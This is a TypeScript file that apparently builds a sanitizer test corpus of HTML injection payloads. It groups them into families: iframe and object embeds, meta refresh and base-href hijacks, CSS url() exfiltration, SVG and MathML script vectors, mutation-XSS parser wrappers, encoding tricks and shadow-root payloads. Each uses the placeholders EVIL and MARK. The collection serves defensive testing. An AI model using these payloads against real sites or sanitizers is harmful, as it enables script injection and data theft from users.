import type { Family } from './card.ts';
import { cross } from './card.ts';
import { CARRIERS } from './carriers.ts';

const FRAMES: Family = {
  family: 'frame',
  cards: [
    ...CARRIERS.slice(1).map(([before, after]) => `${before}<iframe src="https://EVIL/a"></iframe>${after}`),
    '<iframe src="https://EVIL/a"></iframe>', '<iframe srcdoc="<script>MARK</script>"></iframe>', '<iframe srcdoc="&lt;img src=x: onerror=MARK&gt;"></iframe>', '<iframe srcdoc="<img src=https://EVIL/a.png>"></iframe>', '<iframe src="/ok.html" srcdoc="<script>MARK</script>"></iframe>',
    '<iframe srcdoc="&lt;iframe srcdoc=&quot;&amp;lt;script&amp;gt;MARK&amp;lt;/script&amp;gt;&quot;&gt;"></iframe>', '<iframe sandbox="allow-scripts" srcdoc="<script>MARK</script>"></iframe>', '<iframe src="//EVIL/a" loading="eager"></iframe>',
    '<object data="https://EVIL/a"></object>', '<object data="https://EVIL/a.svg" type="image/svg+xml"></object>', '<embed src="https://EVIL/a.svg">', '<embed src="//EVIL/a" type="text/html">', '<object><param name="movie" value="https://EVIL/a.swf"></object>',
    '<frameset><frame src="https://EVIL/a"></frameset>', '<fencedframe src="https://EVIL/a"></fencedframe>', '<portal src="https://EVIL/a"></portal>', '<applet code="https://EVIL/a.class" archive="https://EVIL/a.jar"></applet>', '<object classid="clsid:a" codebase="https://EVIL/a.cab"></object>',
    '<iframe src="about:blank" onload="MARK"></iframe>', '<iframe name="a" src="https://EVIL/a"></iframe><a href="https://EVIL/b" target="a">a</a>',
  ],
};

const METAS: Family = {
  family: 'meta',
  cards: [
    '<meta http-equiv="refresh" content="0; url=https://EVIL/a">', '<meta http-equiv="REFRESH" content="0;https://EVIL/a">', '<meta http-equiv=" refresh" content="0;url=\'https://EVIL/a\'"><meta http-equiv="refresh" content="0,url=//EVIL/a">', '<p>a</p><meta http-equiv=refresh content=0;//EVIL/a>',
    '<meta http-equiv="refresh" content="0;url=javascript:MARK">', '<meta http-equiv="refresh" content="0;url=data:text/html,a">', '<svg><foreignObject><meta http-equiv="refresh" content="0;https://EVIL/a"></foreignObject></svg>',
    '<meta http-equiv="Content-Security-Policy" content="default-src *; script-src \'unsafe-inline\'"><script>MARK</script>', '<meta http-equiv="content-security-policy" content="script-src \'none\'">', '<meta http-equiv="Content-Security-Policy" content="img-src https://EVIL"><img src="https://EVIL/a.png">',
    '<base href="https://EVIL/"><script src="/a.js"></script>', '<base href="//EVIL/"><img src="a.png">', '<p>a<base href="https://EVIL/"><a href="a">a</a><img src="b.png">', '<base target="_blank" href="https://EVIL/"><form action="a"><button>a</button></form>',
    '<svg><foreignObject><base href="https://EVIL/"></foreignObject></svg><img src="a.png">', '<select><base href="https://EVIL/"></select><img src="a.png">', '<meta name="referrer" content="unsafe-url"><img src="https://EVIL/a.png">', '<meta http-equiv="origin-trial" content="AAAA">',
    '<meta http-equiv="set-cookie" content="a=b">', '<meta http-equiv="delegate-ch" content="sec-ch-ua-model https://EVIL">', '<meta http-equiv="refresh" content="1" name="x"><meta name="referrer" content="no-referrer-when-downgrade">',
    '<table><meta http-equiv="refresh" content="0;https://EVIL/a"></table>', '<meta content="0;https://EVIL/a" http-equiv="&#114;efresh">', '<noscript><meta http-equiv="refresh" content="0;https://EVIL/a"></noscript>',
  ],
};

const SHEETS = [
  'p{background:url(https://EVIL/a)}', 'p{background:url("https://EVIL/a")}', "p{background:URL( '//EVIL/a' )}", 'p{background:u\\72l(https://EVIL/a)}', 'p{background:url(\\68ttps://EVIL/a)}', 'p{background:url(https:\\2f\\2f EVIL/a)}', 'p{background:/**/url(/**//EVIL/a) url(//EVIL/a)}',
  '@import "https://EVIL/a.css";', '@import url(https://EVIL/a.css);', "@\\69mport '//EVIL/a.css';", '@import/**/"https://EVIL/a.css"layer(x) supports(display:grid) screen;', '@import url("//EVIL/a.css"', '@charset "utf-8";@import "//EVIL/a.css"',
  '@font-face{font-family:a;src:url(https://EVIL/a.woff2)}p{font-family:a}', 'p{background:image-set("https://EVIL/a.png" 1x)}', 'p{background:-webkit-image-set(url(https://EVIL/a.png) 1x)}', 'p{list-style:url(//EVIL/a)}', 'p{cursor:url(//EVIL/a),auto}',
  'p{border-image:url(//EVIL/a) 30}', 'p::before{content:url(//EVIL/a)}', 'p{mask:url(//EVIL/a)}', 'p{filter:url(//EVIL/a.svg#a)}', 'p{clip-path:url(//EVIL/a.svg#a)}', ':root{--a:url(//EVIL/a)}p{background:var(--a)}', ':root{--a:"//EVIL/a"}p{background:image-set(var(--a) 1x)}',
  '@media all{p{background:url(//EVIL/a)}}', '@supports (display:block){p{background:url(//EVIL/a)}}', '@layer a{p{background:url(//EVIL/a)}}', 'p{&:not(a){background:url(//EVIL/a)}}', 'input[value^="a"]{background:url(//EVIL/a)}', 'p{shape-outside:url(//EVIL/a)}',
  '<!--p{background:url(//EVIL/a)}-->', 'p{background:url(//EVIL/a', '}p{background:url(//EVIL/a)}', 'p{background:cross-fade(url(//EVIL/a),url(/ok.png))}', 'p{background:url(data:image/svg+xml,<svg/>)}', 'p{behavior:url(//EVIL/a.htc)}', 'p{width:expression(MARK)}',
  'p{-moz-binding:url(//EVIL/a.xml#a)}', 'p{background:url(javascript:MARK)}', '@namespace "a";p{background:url(//EVIL/a)}', 'p{background:url(\n//EVIL/a\n)}', 'p{background:url("//EV\\\nIL/a") url(//EVIL/a)}', '@property --a{syntax:"<url>";inherits:true;initial-value:url(//EVIL/a)}',
];
const DECLARATIONS = [
  'background:url(https://EVIL/a)', 'background:u\\72l(//EVIL/a)', "background:url('//EVIL/a'", 'background-image:image-set(&quot;//EVIL/a&quot; 1x)', 'list-style-image:url(//EVIL/a)', '--a:url(//EVIL/a);background:var(--a)', 'width:expression(MARK)', 'behavior:url(//EVIL/a)', 'content:url(//EVIL/a)', 'background:url&#40;//EVIL/a)',
];

const STYLES: Family = {
  family: 'css',
  cards: [...SHEETS.map((sheet) => `<style>${sheet}</style><p>a</p>`), ...DECLARATIONS.map((style) => `<p style="${style}">a</p>`), '<svg><style>p{background:url(//EVIL/a)}</style></svg>', '<svg><style>&#64;import "//EVIL/a.css";</style></svg>', '<div><template shadowrootmode="open"><style>:host{background:url(//EVIL/a)}</style></template></div>', '<style media="print">@import "//EVIL/a.css";</style>', '<STYLE type="text/css">@import "//EVIL/a.css";</STYLE>'],
};

const DRAWN = ['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-start', 'cursor'];

const SVG: Family = {
  family: 'svg',
  cards: [
    ...DRAWN.map((name) => `<svg><rect width="9" height="9" ${name}="url(https://EVIL/a.svg#a)"/></svg>`),
    '<svg><image href="https://EVIL/a.png"/></svg>', '<svg><image xlink:href="https://EVIL/a.png"/></svg>', '<svg><use href="https://EVIL/a.svg#a"/></svg>', '<svg><use xlink:href="//EVIL/a.svg#a"/></svg>', '<svg><filter id="f"><feImage href="https://EVIL/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
    '<svg><image><animate attributeName="href" values="https://EVIL/a.png"/></image></svg>', '<svg><image width="9" height="9"><set attributeName="href" to="https://EVIL/a.png"/></image></svg>', '<svg><linearGradient href="https://EVIL/a.svg#a"/></svg>', '<svg><textPath href="https://EVIL/a.svg#a">a</textPath></svg>',
    '<svg><rect onclick="MARK"/></svg>', '<svg><style>@import "//EVIL/a";</style></svg>', '<svg><foreignObject><img src="https://EVIL/a.png"></foreignObject></svg>', '<svg><desc><img src="x:" onerror="MARK"></desc></svg>', '<svg><script>MARK</script></svg>', '<svg><script>&#77;ath;MARK</script></svg>', '<svg><script><![CDATA[MARK]]></script></svg>',
    '<svg><set attributeName="onmouseover" to="MARK"/></svg>', '<svg><a><rect width="9" height="9"/><animate attributeName="xlink:href" to="javascript:MARK"/></a></svg>', '<svg><handler type="text/javascript" event="click">MARK</handler></svg>', '<svg><animate attributeName="fill" values="url(//EVIL/a.svg#a)"/></svg>', '<svg><mpath href="https://EVIL/a.svg#a"/></svg>',
    '<svg><p><img src="x:" onerror="MARK"></p></svg>', '<svg><switch><foreignObject><body onclick="MARK"></foreignObject></switch></svg>', '<svg><font-face-uri href="https://EVIL/a.svg"/></svg>', '<svg><pattern href="https://EVIL/a.svg#a"/></svg>',
  ],
};

const MATHML: Family = {
  family: 'mathml',
  cards: [
    '<math><mi href="javascript:MARK">a</mi></math>', '<math xlink:href="javascript:MARK"><mi>a</mi></math>', '<math><maction actiontype="toggle" onclick="MARK"><mi>a</mi></maction></math>', '<math><mtext><img src="x:" onerror="MARK"></mtext></math>', '<math><mtext><script>MARK</script></mtext></math>',
    '<math><annotation-xml encoding="text/html"><img src="x:" onerror="MARK"></annotation-xml></math>', '<math><annotation-xml encoding="application/xhtml+xml"><script>MARK</script></annotation-xml></math>', '<math><mglyph src="https://EVIL/a.png"/></math>', '<math><ms><iframe src="https://EVIL/a"></iframe></ms></math>',
    '<math><mi style="background:url(//EVIL/a)">a</mi></math>', '<math><style>@import "//EVIL/a.css";</style></math>', '<math><mo><table><mglyph><style><img src="x:" onerror="MARK"></style></table></mo></math>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=MARK&gt;">', '<math><annotation-xml><svg><foreignObject><img src="x:" onerror="MARK"></foreignObject></svg></annotation-xml></math>',
    '<math><mn onpointerenter="MARK">1</mn></math>', '<math><mi><img srcset="https://EVIL/a.png"></mi></math>',
  ],
};

const PAYLOADS = ['<img src="x:" onerror="MARK">', '<iframe src="https://EVIL/a"></iframe>'];
const HIDES: readonly ((payload: string) => string)[] = [
  (p) => `<noscript><p title="</noscript>${p.replaceAll('"', '')}"></noscript>`, (p) => `<style><a title="</style>${p.replaceAll('"', '')}">`, (p) => `<title><a title="</title>${p.replaceAll('"', '')}">`, (p) => `<textarea><a title="</textarea>${p.replaceAll('"', '')}">`,
  (p) => `<xmp><a title="</xmp>${p.replaceAll('"', '')}">`, (p) => `<noembed><a title="</noembed>${p.replaceAll('"', '')}">`, (p) => `<noframes><a title="</noframes>${p.replaceAll('"', '')}">`, (p) => `<iframe><a title="</iframe>${p.replaceAll('"', '')}">`, (p) => `<script type="a"><!--<script></script>--></script>${p}`,
  (p) => `<!--><p>${p}-->`, (p) => `<!---><p>${p}-->`, (p) => `<!-- a --!>${p}-->`, (p) => `<!--<!--a-->${p}-->`, (p) => `<![CDATA[><p>${p}]]>`, (p) => `<?a ?>${p}`, (p) => `<!a>${p}`, (p) => `</ >${p}`, (p) => `<svg><![CDATA[]]>${p}`, (p) => `<svg></p><style><a id="</style>${p.replaceAll('"', '')}">`,
  (p) => `<svg><style><p>${p}</style></svg>`, (p) => `<svg><title><style>${p}</style></title></svg><svg><style>${p}</style></svg>`, (p) => `<form id="a"><math><mtext></form><form><mglyph><style></math>${p}`, (p) => `<select><style></select>${p}</style>`, (p) => `<select><style><a title="</style>${p.replaceAll('"', '')}">`, (p) => `<select><textarea></select>${p}`,
  (p) => `<select><iframe></select>${p}`, (p) => `<select><xmp><a title="</xmp>${p.replaceAll('"', '')}">`, (p) => `<table><caption><select><tr>${p}`, (p) => `<frameset>${p}</frameset>`, (p) => `<p>a</p><frameset>${p}`, (p) => `<head><title>a</title>${p}</head>`, (p) => `<table>${p}<tr></table>`, (p) => `<table><colgroup>${p}</colgroup></table>`,
  (p) => `<p title='${p.replaceAll("'", '')}'>a</p>${p}`, (p) => `<a title="\n">${p}</a>`, (p) => `<p a="<b c='>'">${p}`, (p) => `<plaintext>a</plaintext>${p}<p>`, (p) => p.replace('>', ''), (p) => `<p>a</p>${p.replace(/>.*/, ' ')}`, (p) => `${p}<!-- never closed`, (p) => `${p}<textarea>`, (p) => `<x-${'a'.repeat(300)}>${p}`,
  (p) => `${'<div>'.repeat(240)}${p}`, (p) => `<b><i><u><p>${p}</b></i></u>`, (p) => `<a><b><a>${p}</a></b></a>`, (p) => `<template><p>a</template></template>${p}`, (p) => `<body><body a><html b>${p}`, (p) => `<option><optgroup><hr>${p}`, (p) => `<button><button>${p}</button>`, (p) => `<dl><dt><dd>${p}`,
];

const PARSERS: Family = { family: 'parser', cards: [...cross(PAYLOADS, HIDES, (payload, hide) => hide(payload)), `${'<div>'.repeat(600)}<img src="x:" onerror="MARK">`, `${'<b>'.repeat(300)}<img src="x:" onerror="MARK">`] };

const ENCODINGS: Family = {
  family: 'encoding',
  cards: [
    '<meta charset="utf-7">+ADw-script+AD4-MARK+ADw-/script+AD4-', '<meta charset="utf-16le"><p>a</p>', '<meta http-equiv="content-type" content="text/html; charset=iso-2022-jp"><p title="\u001b$B">a</p><img src="x:" onerror="MARK">', '\u001b(J<p title="\\" onclick="MARK">a</p>', '<script charset="utf-7" src="/ok.js"></script>',
    '<link rel="stylesheet" charset="utf-16" href="/ok.css">', '<img src="x:"\0onerror="MARK">', '<img src="x:" on\0error="a" onerror="MARK">', '<scr\0ipt>MARK</scr\0ipt><img src="x:" onerror="MARK">', '\0<script>MARK</script>', '<a href="java\0script:MARK">a</a><p onclick="MARK">a</p>', '\ufeff<script>MARK</script>', '<\ufeffscript>a</script><script>MARK</script>',
    '<img\u000bsrc="x:" onerror="MARK"><img\u000csrc="x:"\u000conerror="MARK">', '<img src="x:" onerror="MARK\u2028">', '<img src="x:" onerror="\u0063onsole.log&#40;0&#41;,MARK">', '<img src="x:" onerror="&Mopf;=1,MARK"><p onclick="MARK">', '<img src="x:" onerror=&#x63onsole.log(0),MARK>', '<p>\ufffd\ufffd<script>MARK</script>', '\u00bcscript\u00be<script>MARK</script>',
    '<?xml version="1.0" encoding="utf-7"?><p>a</p>', '<img src="https&colon;//EVIL/a.png">', '<img src="&#x68;ttps:&#x2f;/EVIL/a.png">', '<img src="https:&NewLine;//EVIL/a.png">', '<form accept-charset="utf-7" action="https://EVIL/a"><button>a</button></form>', '<p title="\u202e" onclick="MARK">a</p>', '<a href="\u0001\u001fjavascript:MARK">a</a>',
    '\uff1cscript\uff1eMARK\uff1c/script\uff1e', '<img src="x:" onerror=\u00a0MARK>', '<img src="x:" \u00a0 onerror="MARK">', '<svg><script>&#x4d;ath;&Tab;MARK</script></svg>', '<iframe srcdoc="&#60;script&#62;MARK&#60;/script&#62;"></iframe>', '<a href="&#x2028;javascript:a" onclick="MARK">a</a>', '<\ud800p onclick="MARK">a</p><p onclick="MARK">\udc00</p>',
  ],
};

const SHADOW: Family = {
  family: 'shadow-root',
  cards: [...PAYLOADS, '<script>MARK</script>', '<img src="https://EVIL/a.png">', '<style>@import "//EVIL/a.css";</style>', '<link rel="stylesheet" href="https://EVIL/a.css">', '<a href="javascript:MARK">a</a>'].flatMap((payload) => [
    `<div><template shadowrootmode="open">${payload}</template></div>`, `<section><template shadowrootmode="closed" shadowrootdelegatesfocus>${payload}</template></section>`, `<div><template shadowrootmode="open"><div><template shadowrootmode="open">${payload}</template></div></template></div>`,
  ]),
};

export const DOCUMENT_ATTACKS: readonly Family[] = [FRAMES, METAS, STYLES, SVG, MATHML, PARSERS, ENCODINGS, SHADOW];
